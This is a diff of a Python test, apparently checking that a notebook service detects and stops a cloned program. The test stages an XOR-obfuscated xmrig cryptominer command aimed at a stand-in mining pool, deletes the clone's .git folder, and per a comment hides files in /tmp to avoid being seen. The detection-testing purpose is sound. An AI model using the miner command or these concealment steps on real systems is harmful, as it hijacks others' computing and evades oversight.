@@ -214,12 +214,12 @@ def a_cloned_program_is_asked_about_when_it_runs_again_and_stopped_where_the_ope
     script = "import os\nos.system('./xmrig -o stratum+tcp://pool.example.org:3333 -u me --donate-level 1')\n"
     notebook = person.create("cloned")
     with person.open(notebook) as live:
-        make = live.insert("import os, time\nkey = int(time.time() > 0) * 7\nos.makedirs('there')\n"
-                           f"open('there/run.py', 'wb').write(bytes(c ^ key for c in {[c ^ 7 for c in script.encode()]}))\n"
-                           "!cd there && git init -q . && git add . && git -c user.name=a -c user.email=a@example.org commit -qm a")
+        make = live.insert("import os, time\nkey = int(time.time() > 0) * 7\nos.makedirs('/tmp/there')\n"  # not in the home, where it would be seen before it is cloned
+                           f"open('/tmp/there/run.py', 'wb').write(bytes(c ^ key for c in {[c ^ 7 for c in script.encode()]}))\n"
+                           "!cd /tmp/there && git init -q . && git add . && git -c user.name=a -c user.email=a@example.org commit -qm a")
         state, ops = live.run(make)
         assert state["phase"] == "done", (state, text_of(ops))
-        start = live.insert("!git clone -q there tool && python3 tool/run.py; rm -rf tool/.git; echo went on")
+        start = live.insert("!git clone -q /tmp/there tool && python3 tool/run.py; rm -rf tool/.git; echo went on")
         state, ops = live.run(start)
         assert state["phase"] == "done" and "went on" in text_of(ops), (state, text_of(ops))
         found = wait_until(lambda: [it for it in listed(person, notebook) if it["cell_id"] == "appeared"], "what was cloned is listed")
